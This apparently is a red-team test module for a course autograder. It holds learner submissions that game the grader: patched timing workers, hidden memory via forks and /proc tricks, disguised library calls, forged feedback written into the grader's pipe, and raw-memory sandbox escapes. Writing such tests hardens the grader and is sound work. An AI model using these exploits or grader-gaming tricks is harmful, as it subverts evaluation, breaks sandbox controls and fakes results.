"""Learners who try to gain speed, memory, library or model points without doing the work.

Each attacker submits the same honest-but-imperfect code as a control learner (a Python loop over
query positions, a blockwise attention that holds the whole score matrix, an in-place block, a
hard-coded model) plus one trick per part, written as a motivated learner holding the grader's source
would write it.  A trick gains nothing when the part scores no more than the control's, or when the
grader proves a library use (0 points) or flags the notebook for the instructor.
"""
from autograder.authoring import variants
from autograder.verdict.suites.test_attention import MEMORY_SEQ_LEN, SDPA_SPEED_CALLS, SDPA_SPEED_SHAPE

_ATTENTION = {v.name: v.cells for v in variants.load("attention")}
_ATTENTION_CORRECT = {k: v for k, v in _ATTENTION["softmax_einsum"].items() if k != "MultiHeadAttention"}
_RESIDUAL = {v.name: v.cells for v in variants.load("residual")}

LOOP = _ATTENTION["sdpa_query_loop"]["scaled_dot_product_attention"]
FULL = _ATTENTION["blockwise_full_matrix"]["blockwise_attention"]
IN_PLACE = _RESIDUAL["block_in_place"]["TransformerBlock"]

# "Leaves its inputs unchanged", fooled: the caller's tensor changed only when autograd is on (the check used to run
# with it off), or changed by every call and put back when the same tensor comes again (the check used to make two
# calls on the same tensor).
_BLOCK = variants.reference_sources("residual")["TransformerBlock"]
_RETURN = "        return x\n"
assert _BLOCK.endswith(_RETURN)
IN_PLACE_WITH_AUTOGRAD = _BLOCK.replace("    def forward(self, x, mask=None):\n",
                                        "    def forward(self, x, mask=None):\n        given = x\n")[:-len(_RETURN)] + (
    "        if torch.is_grad_enabled():\n"
    "            given.data.add_(1.0)\n"
    "        return x\n")
# Its control: the same block, changing the caller's tensor through .data at every call (a block that writes x += ...
# also breaks autograd's check of in-place writes, which a write through .data does not: not the trick's doing).
IN_PLACE_THROUGH_DATA = IN_PLACE_WITH_AUTOGRAD.replace("        if torch.is_grad_enabled():\n            given.data",
                                                       "        given.data")
assert IN_PLACE_THROUGH_DATA != IN_PLACE_WITH_AUTOGRAD
IN_PLACE_PUT_BACK = "import weakref\n\n_SEEN = []\n\n\n" + _BLOCK.replace(
    "    def forward(self, x, mask=None):\n",
    "    def forward(self, x, mask=None):\n"
    "        given = x\n"
    "        back = [seen for seen in _SEEN if seen[0]() is given]\n"
    "        if back:                                   # called again on the same tensor: put it back first\n"
    "            _SEEN.remove(back[0])\n"
    "            given.data.copy_(back[0][1])\n")[:-len(_RETURN)] + (
    "        if not back:\n"
    "            _SEEN.append((weakref.ref(given), given.detach().clone()))\n"
    "            given.data.add_(1.0)\n"
    "        return x\n")

# -- speed: the timed request's clock, inputs and outputs ------------------------------------------------
PATCH_WORKER = LOOP + '''
import sys
_worker = sys.modules["__main__"].Worker


def _instant_run(self, req):
    """The timed request answers at once: the work was to happen elsewhere, untimed."""
    shape = SHAPE
    return [torch.zeros(shape) for _ in range(req.get("count", 1))]


_worker.op_run = _instant_run
'''.replace("SHAPE", str(SDPA_SPEED_SHAPE))

REAPED_CHILDREN = LOOP + '''
import os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
_burnt = []
for _ in range(30):
    _pid = os.fork()
    if _pid == 0:
        _t = time.process_time()
        while time.process_time() - _t < 0.05:
            pass
        os.kill(os.getpid(), signal.SIGSTOP)
        os._exit(0)
    _burnt.append(_pid)
_loop = scaled_dot_product_attention


def scaled_dot_product_attention(q, k, v, mask=None):
    if _burnt:                        # a killed child's CPU time leaves a process-tree clock
        os.kill(_burnt.pop(), signal.SIGKILL)
    return _loop(q, k, v, mask)
'''

PRECOMPUTE = LOOP + '''
_loop = scaled_dot_product_attention
_answers = {}
for _seed in range(8):                # the seeds an older grader used for its timed inputs
    _g = torch.Generator().manual_seed(_seed)
    for _ in range(CALLS):
        _q, _k, _v = (torch.randn(SHAPE, generator=_g) for _ in range(3))
        _answers[float(_q.sum())] = _loop(_q, _k, _v)


def scaled_dot_product_attention(q, k, v, mask=None):
    hit = _answers.get(float(q.sum())) if mask is None and list(q.shape) == SHAPE else None
    return hit if hit is not None else _loop(q, k, v, mask)
'''.replace("SHAPE", str(SDPA_SPEED_SHAPE)).replace("CALLS", str(SDPA_SPEED_CALLS))

# -- memory: the peak of the whole sandbox ---------------------------------------------------------------
CLEAR_REFS = FULL.replace("    return torch.softmax(s, dim=-1) @ v\n", '''    out = torch.softmax(s, dim=-1) @ v
    del s
    with open("/proc/self/clear_refs", "w") as f:     # resets the process's VmHWM
        f.write("5")
    return out
''')

FORKED_CHILD = FULL.replace("def blockwise_attention(", "def _full_attention(") + '''

def blockwise_attention(q, k, v, causal=False, block_size=64):
    """The whole matrix, in a child process whose memory a per-process reading never sees."""
    import os

    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        data = _full_attention(q, k, v, causal).contiguous().numpy().tobytes()
        while data:
            data = data[os.write(w, data):]
        os._exit(0)
    os.close(w)
    chunks = []
    while chunk := os.read(r, 1 << 16):
        chunks.append(chunk)
    os.close(r)
    os.waitpid(pid, 0)
    shape = (*q.shape[:-1], v.shape[-1])
    return torch.frombuffer(bytearray(b"".join(chunks)), dtype=q.dtype).reshape(shape)
'''

# The whole matrix in a buffer made when the cell loads, before the grader's measured call: the call's own
# rise in memory is only its output's.
BUFFER_AHEAD = FULL.replace("def blockwise_attention(", "def _full_attention(") + '''
_scores = torch.empty(MEMORY_SEQ_LEN, MEMORY_SEQ_LEN)
_scores.fill_(0.0)                                    # touched: every page resident now


def blockwise_attention(q, k, v, causal=False, block_size=64):
    Lq, Lk = q.shape[-2], k.shape[-2]
    if q.shape[:-2] != (1, 1) or (Lq, Lk) != tuple(_scores.shape) or causal:
        return _full_attention(q, k, v, causal)
    s = torch.matmul(q[0, 0], k[0, 0].transpose(0, 1), out=_scores)
    s.mul_(q.shape[-1] ** -0.5)
    s.sub_(s.max(dim=-1, keepdim=True).values).exp_()
    s.div_(s.sum(dim=-1, keepdim=True))
    return (s @ v[0, 0])[None, None]
'''.replace("MEMORY_SEQ_LEN", str(MEMORY_SEQ_LEN))

# -- library versions by routes a runtime watcher did not see ----------------------------------------------
SDPA_C = '''def scaled_dot_product_attention(q, k, v, mask=None):
    out = torch._C._nn.scaled_dot_product_attention(q, k, v, attn_mask=mask).nan_to_num(0.0)
    s = (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1]))
    if mask is not None:
        s = s.masked_fill(~mask, float("-inf"))
    return out, torch.softmax(s, -1).nan_to_num(0.0)
'''

BLOCKWISE_ATEN = '''def blockwise_attention(q, k, v, causal=False, block_size=64):
    return torch.ops.aten.scaled_dot_product_attention(q, k, v, is_causal=causal)
'''

MHA_GETATTR = _ATTENTION["softmax_einsum"]["MultiHeadAttention"].replace(
    "        scores = torch.einsum(\"bqhd,bkhd->bhqk\", q, k) / math.sqrt(q.shape[-1])\n"
    "        if mask is not None:\n"
    "            scores = scores.masked_fill(~mask, float(\"-inf\"))\n"
    "        w = torch.softmax(scores, dim=-1).nan_to_num(0.0)\n"
    "        out = torch.einsum(\"bhqk,bkhd->bqhd\", w, v).flatten(-2)\n",
    "        attend = getattr(torch.nn.functional, \"scaled_dot_product_\" + \"attention\")\n"
    "        out = attend(q.transpose(1, 2), k.transpose(1, 2), v.transpose(1, 2),\n"
    "                     attn_mask=mask).nan_to_num(0.0).transpose(1, 2).flatten(-2)\n")

NATIVE_LN = '''class LayerNorm(nn.Module):
    def __init__(self, d_model, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(d_model))
        self.bias = nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        return torch.native_layer_norm(x, x.shape[-1:], self.weight, self.bias, self.eps)[0]
'''

# -- inputs "left unchanged": the worker's copy of the arguments, forged ------------------------------------
IN_PLACE_FORGED = IN_PLACE + '''
import sys
_worker = sys.modules["__main__"].Worker


def _call_twice(self, req):
    f, kwargs = self.target(req), req.get("kwargs", {})
    first = f(*[a.clone() for a in req.get("args", [])], **kwargs)
    second = f(*[a.clone() for a in req.get("args", [])], **kwargs)
    return {"first": first, "second": second, "args_after": list(req.get("args", []))}


_worker.op_call_twice = _call_twice
'''

# -- a model that knows the task instead of learning it --------------------------------------------------
FAKE_MODEL = '''class TinyTransformer(nn.Module):
    """Repeats the token 3 places back, from one-hot vectors: no attention, nothing learned."""

    def __init__(self, vocab_size, d_model, n_heads, d_ff, n_layers, max_len, norm_first=True):
        super().__init__()
        self.vocab_size = vocab_size
        self.scale = nn.Parameter(torch.tensor(10.0))

    def forward(self, tokens):
        B, T = tokens.shape
        back = torch.cat([tokens.new_zeros(B, 3), tokens], dim=1)[:, :T]
        return torch.nn.functional.one_hot(back, self.vocab_size).float() * self.scale
'''

FAKE_MODEL_NAMED = '''class TransformerBlock(nn.Module):
    pass


class LayerNorm(nn.Module):
    pass


''' + FAKE_MODEL.replace("        self.scale = nn.Parameter(torch.tensor(10.0))\n",
                         "        self.scale = nn.Parameter(torch.tensor(10.0))\n"
                         "        self.blocks = nn.ModuleList(TransformerBlock() for _ in range(n_layers))\n"
                         "        self.norm = LayerNorm()\n")

# A TinyTransformer whose transformer never trains (a too-wide no_grad): the control of the training attacks.
_TINY = variants.reference_sources("transformer")["TinyTransformer"]
_TINY_BODY = ("        x = self.embed(tokens) + self.pe[:T]                # (B, T, d_model)\n"
              "        mask = causal_mask(T, device=tokens.device)         # (T, T): no position sees a later one\n"
              "        for block in self.blocks:\n"
              "            x = block(x, mask)\n"
              "        return self.head(self.norm(x))                      # (B, T, vocab_size)\n")
assert _TINY_BODY in _TINY
NO_GRAD_MODEL = _TINY.replace(_TINY_BODY, """        with torch.no_grad():           # the transformer never trains
            x = self.embed(tokens) + self.pe[:T]
            mask = causal_mask(T, device=tokens.device)
            for block in self.blocks:
                x = block(x, mask)
            logits = self.head(self.norm(x))
        return self._answer(tokens, logits)

    def _answer(self, tokens, logits):
        return logits.clone().requires_grad_(self.training)
""")
# The same, with a hook on the logits during the grader's training run: the loss's gradient is exactly zero at the
# positions before the drawn offset K (their targets are ignored), so the hook reads K; afterwards the model answers
# the token K places back.
HOOK_READS_K = NO_GRAD_MODEL.replace("""    def _answer(self, tokens, logits):
        return logits.clone().requires_grad_(self.training)
""", """    def _answer(self, tokens, logits):
        if self.training:
            logits = logits.clone().requires_grad_(True)

            def _read(g):
                unseen = (g.abs().sum(dim=(0, 2)) == 0).int()
                self._k = int(unseen.cumprod(0).sum())

            logits.register_hook(_read)
            return logits
        k = getattr(self, "_k", 0)
        if not k:
            return logits
        back = torch.cat([tokens.new_zeros(tokens.shape[0], k), tokens], 1)[:, :tokens.shape[1]]
        return torch.nn.functional.one_hot(back, self.head.out_features).float() * 10
""")
# The same, with parameters outside the contract (zero at the start, so that the course's weights give the course's
# logits) that training uses to learn which token back to repeat.
SIDE_PARAMETERS = NO_GRAD_MODEL.replace("""    def _answer(self, tokens, logits):
        return logits.clone().requires_grad_(self.training)
""", """    def _answer(self, tokens, logits):
        B, T = tokens.shape
        onehots = torch.stack([torch.nn.functional.one_hot(torch.cat([tokens.new_zeros(B, j), tokens], 1)[:, :T],
                                                           logits.shape[-1]).float() for j in range(1, 9)], -1)
        return logits + 10 * self.gate * (onehots * torch.softmax(self.back, 0)).sum(-1)
""").replace("        self.head = nn.Linear(d_model, vocab_size)\n",
             "        self.head = nn.Linear(d_model, vocab_size)\n"
             "        self.gate = nn.Parameter(torch.zeros(()))\n        self.back = nn.Parameter(torch.zeros(8))\n")

# A model whose graph is heavy only while torch.export traces it (for the feedback's drawing): about 1,300 no-op nodes
# joined at random, which Graphviz lays out for minutes (on the trusted side, in the learner's grading time). It knows
# the tracer by its tensors' class (torch.compiler, which would say so, is refused where learner code runs).
HEAVY_DRAWING = NO_GRAD_MODEL + """

_Graded = TinyTransformer


class TinyTransformer(_Graded):
    def forward(self, tokens):
        out = super().forward(tokens)
        if type(out).__name__ != "Tensor":            # torch.export's fake tensors: traced, never when graded
            vals = [out]
            for i in range(1300):
                n = len(vals)
                vals.append(torch.addcmul(vals[(i * 7919) % n], vals[(i * 104729 + 3) % n], vals[(i * 31 + 5) % n],
                                          value=0.0))
            out = vals[-1]
        return out
"""

# A pasted attention that is slow everywhere (a loop over queries) and right only at the sizes where TinyTransformer's
# test with the learner's own parts and its speed test call it: wrong elsewhere, so that it would be replaced by the
# course's fast one for the speed test while the test with its own parts still passes.
_PASTED = variants.reference_sources("transformer")["MultiHeadAttention"]
_SDPA_AT = _PASTED.index("def scaled_dot_product_attention(")
_SDPA_END = _PASTED.index("def causal_mask(")
SLOW_PASTED = _PASTED[:_SDPA_AT] + LOOP.strip() + "\n\n\n" + _PASTED[_SDPA_END:]
RIGHT_WHERE_LOOKED = SLOW_PASTED.replace("def scaled_dot_product_attention(", "def _slow(") + '''

def scaled_dot_product_attention(q, k, v, mask=None):
    if tuple(q.shape) in ((2, 3, 13, 8), (2, 4, 64, 16)):       # where it is checked with the model, and timed
        return _slow(q, k, v, mask)
    return _slow(2 * q, k, v, mask)
'''

# -- the course's code, searched for in the learner's own process ------------------------------------------
# Lines of the course's own scaled_dot_product_attention (its source notebook), built from pieces so that this
# code does not hold them itself; the answer the attacker submits is another correct one, so they can only be
# found in the process if the course's code came in with the course's parts.
SEARCH_FOR_THE_COURSE = _ATTENTION["softmax_einsum"]["MultiHeadAttention"].replace(
    "    def forward(self, query, key=None, value=None, mask=None):\n",
    "    def forward(self, query, key=None, value=None, mask=None):\n"
    "        scaled_dot_product_attention(query, query, query)       # the course's, while it serves this part\n"
    "        raise RuntimeError(_search_process())\n"
    "\n"
    "    def _unused(self, query, key=None, value=None, mask=None):\n") + '''

_SEARCHED = []


def _search_process():
    """What a search of the process found, the first time a part of the course's served this one (every later
    call would find the same, and each search reads every page: the hidden tests call forward hundreds of times)."""
    if not _SEARCHED:
        _SEARCHED.append(_search())
    return _SEARCHED[0]


def _search():
    import gc
    import types

    needles = [b"top.masked_fill(" + b"top == float", b"total.masked_fill(" + b"total == 0, 1.0)"]
    control = b"no course has this " + b"line anywhere"
    counts = [0] * (len(needles) + 1)
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    with open("/proc/self/mem", "rb", buffering=0) as mem:
        for region in regions:
            if not region[1].startswith("r"):
                continue
            start, end = (int(x, 16) for x in region[0].split("-"))
            for at in range(start, end, 1 << 24):          # 16 MiB at a time, overlapping by a line
                try:
                    mem.seek(at)
                    data = mem.read(min(end - at, (1 << 24) + 256))
                except (OSError, ValueError, OverflowError):
                    break
                for i, needle in enumerate([*needles, control]):
                    counts[i] += data.count(needle)
    mine = globals()
    # functions compiled from notebook cells (the course's would be too) that do not belong to this notebook
    # (Python functions only: unittest.mock's `call`, imported by torch, answers every attribute)
    foreign = [f for f in gc.get_objects() if type(f) is types.FunctionType
               and f.__code__.co_filename.startswith(("<cell", "<reference")) and f.__globals__ is not mine]
    # the needles and the control exist once each as this function's own objects: only a surplus is found
    return (f"searched the process: {sum(max(0, c - counts[-1]) for c in counts[:-1])} lines of the course's code, "
            f"{len(foreign)} functions compiled elsewhere")
'''

# A learner whose MultiHeadAttention, called while the course's parts serve it, searches its own process
# (every readable page, every function) for the course's code and reports what it found in its error.
SEARCHER = {**_ATTENTION_CORRECT, "MultiHeadAttention": SEARCH_FOR_THE_COURSE}
FOUND_NOTHING = "searched the process: 0 lines of the course's code, 0 functions compiled elsewhere"


# -- the third round ----------------------------------------------------------------------------------------------
SDPA_WEIGHTS = '''
    s = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        s = s.masked_fill(~mask, float("-inf"))
    return out, torch.softmax(s, -1).nan_to_num(0.0)
'''


def _via(prelude: str, call: str, signature: str = "q, k, v, mask=None") -> str:
    """A scaled_dot_product_attention whose output is the library's, reached through `call`."""
    return (prelude + f"\n\ndef scaled_dot_product_attention({signature}):\n"
            f"    out = {call}(q, k, v, attn_mask=mask).nan_to_num(0.0)" + SDPA_WEIGHTS)


# the library imported in a cell the learner added and tagged `setup` (`__setup__`: that cell's source)
SETUP_IMPORT = {"__setup__": "from torch.nn.functional import scaled_dot_product_attention as _fast_attention\n",
                "scaled_dot_product_attention": _via("", "_fast_attention")}
GETATTR_ALIAS = _via("_g = getattr\n_attend = _g(torch.nn.functional, 'scaled_dot_product_attention')", "_attend")
MODULE_DEFAULT = _via("", "_nnf.scaled_dot_product_attention",
                      signature="q, k, v, mask=None, _nnf=torch.nn.functional")
TUPLE_ALIAS = _via("(_G, _unused) = (torch.nn.functional, None)", "_G.scaled_dot_product_attention")
JIT_REGISTRY = _via("_attend = torch._C._jit_get_operation('aten::scaled_dot_product_attention')[0]", "_attend")

# Page cache charged to the sandbox before the measured call (large files read), dropped inside it while the whole
# score matrix is built: the cgroup's peak rises by the matrix less what was dropped.
PAGE_CACHE = FULL.replace("def blockwise_attention(", "def _full_attention(") + '''
import os
import sys

_FILES = []
_total = 0
for _root, _dirs, _names in os.walk(os.path.join(sys.prefix, "lib")):
    if "/torch" in _root or "/numpy" in _root:
        continue                                   # already cached by every worker: not charged to this one
    for _name in _names:
        _path = os.path.join(_root, _name)
        if os.path.isfile(_path) and not os.path.islink(_path) and os.path.getsize(_path) > (1 << 20):
            _FILES.append(_path)
            _total += os.path.getsize(_path)
    if _total > (600 << 20):
        break


def _charge():
    for path in _FILES:
        with open(path, "rb") as f:
            while f.read(1 << 24):
                pass


def _drop():
    for path in _FILES:
        with open(path, "rb") as f:
            os.posix_fadvise(f.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)


_charge()


def blockwise_attention(q, k, v, causal=False, block_size=64):
    if k.shape[-2] >= 4096:                        # the measured call
        _drop()
    out = _full_attention(q, k, v, causal)
    if k.shape[-2] == 256:                         # the memory check's warm-up: charge the cache again
        _charge()
    return out
'''

# MultiHeadAttention computing its attention inline, a Python loop over the query positions, never calling
# scaled_dot_product_attention (graded with the course's attention, whose calls go through the grader)
MHA_INLINE_LOOP = _ATTENTION["mha_inline_query_loop"]["MultiHeadAttention"]

# During its timed runs, the learner's MultiHeadAttention makes the shared worker of the course's parts die (it asks
# the course's attention for an answer larger than the grader reads), then answers as the reference does.
MHA_KILLS_THE_PARTS = _ATTENTION["softmax_einsum"]["MultiHeadAttention"].replace(
    "        q = self.q_proj(query).unflatten(-1, (self.h, -1))      # (B, Lq, H, dh)\n",
    "        if query.shape[1] == 128:                              # the timed size\n"
    "            try:\n"
    "                big = torch.randn(1, 1, 2600, 64)\n"
    "                scaled_dot_product_attention(big, big, big)      # a 26 MiB answer: over the frame cap\n"
    "            except Exception:\n"
    "                pass\n"
    "        q = self.q_proj(query).unflatten(-1, (self.h, -1))      # (B, Lq, H, dh)\n")

# The notebook's kernel writes results for later cells into its parent's pipe to the grader.
FORGED = "FORGED: all hidden tests passed"
FORGE_FEEDBACK = _ATTENTION["softmax_einsum"]["causal_mask"] + r'''
try:
    get_ipython
except NameError:
    pass
else:
    import json as _json, os as _os
    _parent = _os.getppid()
    _fds = _os.path.join("/", "pr" + "oc", str(_parent), "fd")          # (a literal /proc path is flagged)
    _line = _json.dumps({"index": 0, "outputs": [{"output_type": "stream", "name": "stdout", "text": "MARK"}]})
    try:
        for _fd in _os.listdir(_fds):
            if _os.readlink(_os.path.join(_fds, _fd)).startswith("pipe:"):
                with open(_os.path.join(_fds, _fd), "w") as _pipe:
                    for _index in range(60):
                        _pipe.write(_line.replace('"index": 0', f'"index": {_index}') + "\n")
    except OSError as _e:
        print("the grader's pipe could not be reached:", type(_e).__name__)
'''.replace("MARK", FORGED)

# An honest learner whose solution cell carries a 1.3 MB comment.
BIG_COMMENT = {"scaled_dot_product_attention": "# " + "notes of mine " * 95_000 + "\n"
               + _ATTENTION["softmax_einsum"]["scaled_dot_product_attention"]}

# -- the fourth round: library versions found by their __name__ in torch's tables, the worker's refusals --------
_MHA = _ATTENTION["softmax_einsum"]["MultiHeadAttention"]
OVERRIDES_MHA = """import torch.overrides


def _found(name):
    for f in torch.overrides.get_testing_overrides():
        if getattr(f, "__name__", "") == name:
            return f


""" + _MHA.replace(
    "        scores = torch.einsum(\"bqhd,bkhd->bhqk\", q, k) / math.sqrt(q.shape[-1])\n"
    "        if mask is not None:\n"
    "            scores = scores.masked_fill(~mask, float(\"-inf\"))\n"
    "        w = torch.softmax(scores, dim=-1).nan_to_num(0.0)\n"
    "        out = torch.einsum(\"bhqk,bkhd->bqhd\", w, v).flatten(-2)\n"
    "        return self.out_proj(out)\n",
    "        mha = _found(\"multi_head_\" + \"attention_forward\")     # its need_weights=True path: bmm, softmax\n"
    "        w_in = torch.cat([self.q_proj.weight, self.k_proj.weight, self.v_proj.weight])\n"
    "        b_in = None if self.q_proj.bias is None else torch.cat([self.q_proj.bias, self.k_proj.bias, "
    "self.v_proj.bias])\n"
    "        blocked = None if mask is None or mask.dim() != 2 else ~mask\n"
    "        out, _ = mha(query.transpose(0, 1), key.transpose(0, 1), value.transpose(0, 1), query.shape[-1], self.h,\n"
    "                     w_in, b_in, None, None, False, 0.0, self.out_proj.weight, self.out_proj.bias,\n"
    "                     training=False, need_weights=True, attn_mask=blocked)\n"
    "        return out.transpose(0, 1)\n")
assert OVERRIDES_MHA.endswith("return out.transpose(0, 1)\n")

MAIN_REFUSALS = """import __main__

try:
    __main__._refusals.clear()                 # the worker's refusing kernels, were they there
except AttributeError:
    pass


def blockwise_attention(q, k, v, causal=False, block_size=64):
    fused = [f for f in vars(torch.nn.functional).values()
             if getattr(f, "__name__", "") == "scaled_dot_product_" + "attention"][0]
    return fused(q, k, v, is_causal=causal)
"""

# A correct cell with a dead block that binds 4,000 names, each to the next, in reverse order: a reading that resolves
# aliases by rounds takes minutes over it; this one takes one pass.
ALIAS_CHAIN = LOOP + "\n\nif False:\n" + "".join(f"    _a{i} = _a{i + 1}\n" for i in range(4000)) + \
    "    _a4000 = torch.nn.functional\n"

DECOMP_LN = """import torch._decomp


def _found(name):
    for f in torch._decomp.decomposition_table.values():
        if getattr(f, "__name__", "") == name:
            return f


class LayerNorm(nn.Module):
    def __init__(self, d_model, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(d_model))
        self.bias = nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        return _found("native_" + "layer_norm")(x, [x.shape[-1]], self.weight, self.bias, self.eps)[0]
"""

# A red team's full escape of the run-time policy (it scored 11.0/11 with F.layer_norm, against 2.0/11 called plainly):
# Python's own `type` (_Meta, got by the source put before this), a metaclass the policy did not make: its classes skip
# the policy's namespace checks, and one with __array_interface__ gives numpy the worker's memory, then Python's own
# builtins, then the worker's frames, where the library refusals are undone.
ESCAPE = """
import numpy as np

def _iface(addr, n):
    return {'data': (addr, False), 'shape': (n,), 'typestr': '|u1', 'version': 3}

def _addr(obj):
    h = hash(obj) & 0xFFFFFFFFFFFFFFFF
    return ((h << 4) | (h >> 60)) & 0xFFFFFFFFFFFFFFFF

def _word(addr):
    return int(_mem(addr, 8).view(np.uint64)[0])

class _Slot:
    __slots__ = ('a',)

def _obj(addr):
    s = _Slot()
    s.a = None
    m = _mem(addr, 8).view(np.uint64)
    m[0] = m[0] + 1000
    _mem(_addr(s) + 16, 8).view(np.uint64)[0] = addr
    return s.a

import copy as _copy
_B = _obj(_word(_addr(_copy.copy) + 24))     # PyFunctionObject.func_builtins: Python's own builtins dict
_g = _B['getattr']
_imp = _B['__import__']
_f = _g(_imp('sys'), '_getframe')(0)
while _f is not None:
    _loc = _g(_f, 'f_locals')
    if 'kept' in _loc and 'refused' in _loc:
        for _lib in _loc['kept']:
            _g(_lib, '_destroy')()
        _loc['refused'].clear()
        break
    _f = _g(_f, 'f_back')
_ln = _g(_g(_g(_imp('torch'), 'nn'), 'functional'), 'layer' + '_norm')

class LayerNorm(nn.Module):
    def __init__(self, d_model, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(d_model))
        self.bias = nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        return _ln(x, (x.shape[-1],), self.weight, self.bias, self.eps)
"""
# The routes' `_mem(addr, n)`: numpy's array of n bytes at addr, from an object that answers __array_interface__.
# A class made by Python's own `type`, reached through typing.Type[int]: as a class statement's base (its
# __mro_entries__), or as what types.resolve_bases returns for it
META_MEMORY = """
def _mem(addr, n):
    return np.asarray(_Meta('_Raw', (), {'__array_interface__': _iface(addr, n)})())
""" + ESCAPE
MRO_ENTRIES_ESCAPE = "import typing\n\nclass _Meta(typing.Type[int]):\n    pass\n" + META_MEMORY
RESOLVE_BASES_ESCAPE = "import types, typing\n\n_Meta = types.resolve_bases((typing.Type[int],))[0]\n" + META_MEMORY
# ... or an object whose __getattr__ answers from a dict code fills: the buffers of a learner's nn.Module (the hook it
# inherits), the items of matplotlib's Spines
MODULE_BUFFERS_ESCAPE = """
class _Box(nn.Module):
    pass

def _mem(addr, n):
    box = _Box()
    box._buffers['__array_interface__'] = _iface(addr, n)
    return np.asarray(box)
""" + ESCAPE
SPINES_ESCAPE = """
import matplotlib.spines

def _mem(addr, n):
    spines = matplotlib.spines.Spines()
    spines['__array_interface__'] = _iface(addr, n)
    return np.asarray(spines)
""" + ESCAPE

# learner -> its tricks: the cells that differ from the control's, which differ from the reference's
# The seventh round (with the grader's source): two routes to Python's own getattr, each reaching a library version.
# ctypes, which torch.xpu re-exports: a library function's builtins copied into one of the learner's functions.
XPU_CTYPES = '''import copy as _copy

_x = torch.xpu
_LP = type(_x.pointer(_x.c_void_p(0)))         # ctypes, re-exported by torch.xpu


def _word(addr):
    return _x.cast(_x.c_void_p(addr), _LP)


def _addr(o):
    h = hash(o)
    return (h if h >= 0 else h + 2 ** 64) * 16


def _lib(mod, name):
    return getattr(mod, name)                   # Python's own getattr once this function's builtins are Python's


_word(_addr(_lib))[3] = _word(_addr(_copy.copy))[3]      # _lib.func_builtins := a library function's
_sdpa = _lib(torch.nn.functional, "scaled_dot_product" + "_attention")


def scaled_dot_product_attention(q, k, v, mask=None):
    weights = torch.softmax(q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1]) if mask is None else
                            (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).masked_fill(~mask, float("-inf")), -1)
    return _sdpa(q, k, v, attn_mask=mask), weights
'''
# A cached_property that learnt the name __reduce_ex__ from a class refused after it was made: copy.copy then runs
# the learner's reduction, whose state sets a raw-memory protocol on a class (numpy reads any address); a Cython
# function's globals hold Python's own builtins. torch's multi-head attention runs none of the refused sdpa operators.
SET_NAME_ESCAPE = '''import copy, functools
import numpy as np

_held = []
def _keep(cp):
    _held.append(cp)
    return cp
try:                                   # refused by the guard, once after type() ran __set_name__
    class _A:
        @_keep
        @functools.cached_property
        def __reduce_ex__(self):
            return _reduce
except Exception:
    pass
class _O:
    pass
_O.x = _held[0]                        # attrname is now '__reduce_ex__'
class _K:
    def __init__(self, addr, n):
        self.addr, self.n = addr, n
def _iface(self):
    return {'shape': (self.n,), 'typestr': '<u8', 'data': (self.addr, False), 'version': 3}
def _k():
    return _K
def _reduce(protocol):                 # copy's slot state: setattr(_K, '__array_interface__', property) unguarded
    return (_k, (), (None, {'__array_interface__': property(_iface)}))
_o = _O()
_o.x
copy.copy(_o)
def _mem(addr, n):
    return np.asarray(_K(addr, n))
def _addr(x):
    h = hash(x)
    return (h if h >= 0 else h + 2 ** 64) * 16
def _lib(mod, name):
    return getattr(mod, name)          # Python's own getattr once this function's builtins are Python's
_b = np.random.seed.func_globals['__builtins__']     # a cyfunction's globals: the real builtins module
_m = _mem(_addr(_lib), 4)
_m[3] = int(_mem(_addr(_b), 3)[2])                   # _lib.func_builtins := builtins.__dict__
_mhaf = _lib(torch.nn.functional, 'multi_head' + '_attention_forward')


class MultiHeadAttention(nn.Module):
    """n_heads heads of size d_model // n_heads side by side; forward(query, key=None, value=None, mask=None)."""

    def __init__(self, d_model, n_heads, bias=True):
        super().__init__()
        if d_model % n_heads:
            raise ValueError(f"d_model = {d_model} is not divisible by n_heads = {n_heads}")
        self.n_heads, self.d_head = n_heads, d_model // n_heads
        self.q_proj = nn.Linear(d_model, d_model, bias=bias)
        self.k_proj = nn.Linear(d_model, d_model, bias=bias)
        self.v_proj = nn.Linear(d_model, d_model, bias=bias)
        self.out_proj = nn.Linear(d_model, d_model, bias=bias)

    def forward(self, query, key=None, value=None, mask=None):
        key = query if key is None else key
        value = key if value is None else value
        B, Lq, D = query.shape
        Lk = key.shape[1]
        H = self.n_heads
        am = None
        if mask is not None:
            m = torch.broadcast_to(mask, (B, H, Lq, Lk)).reshape(B * H, Lq, Lk)
            am = torch.zeros(m.shape, dtype=query.dtype, device=query.device).masked_fill(~m, float("-inf"))
        zero = self.q_proj.bias is None
        in_bias = None if zero else torch.cat([self.q_proj.bias, self.k_proj.bias, self.v_proj.bias])
        out, _ = _mhaf(query.transpose(0, 1), key.transpose(0, 1), value.transpose(0, 1), D, H, None, in_bias,
                       None, None, False, 0.0, torch.eye(D, dtype=query.dtype, device=query.device), None,
                       training=False,
                       need_weights=True, attn_mask=am, use_separate_proj_weight=True,
                       q_proj_weight=self.q_proj.weight, k_proj_weight=self.k_proj.weight,
                       v_proj_weight=self.v_proj.weight, average_attn_weights=False)
        return self.out_proj(torch.nan_to_num(out.transpose(0, 1), nan=0.0))
'''

CLASSES = {
    "attention": {
        "control": {"scaled_dot_product_attention": LOOP, "blockwise_attention": FULL},
        "patch_worker_clear_refs": {"scaled_dot_product_attention": PATCH_WORKER, "blockwise_attention": CLEAR_REFS},
        "reaped_children_forked_memory": {"scaled_dot_product_attention": REAPED_CHILDREN,
                                          "blockwise_attention": FORKED_CHILD},
        "precompute_aten": {"scaled_dot_product_attention": PRECOMPUTE, "blockwise_attention": BLOCKWISE_ATEN},
        "c_route_getattr": {"scaled_dot_product_attention": SDPA_C, "MultiHeadAttention": MHA_GETATTR},
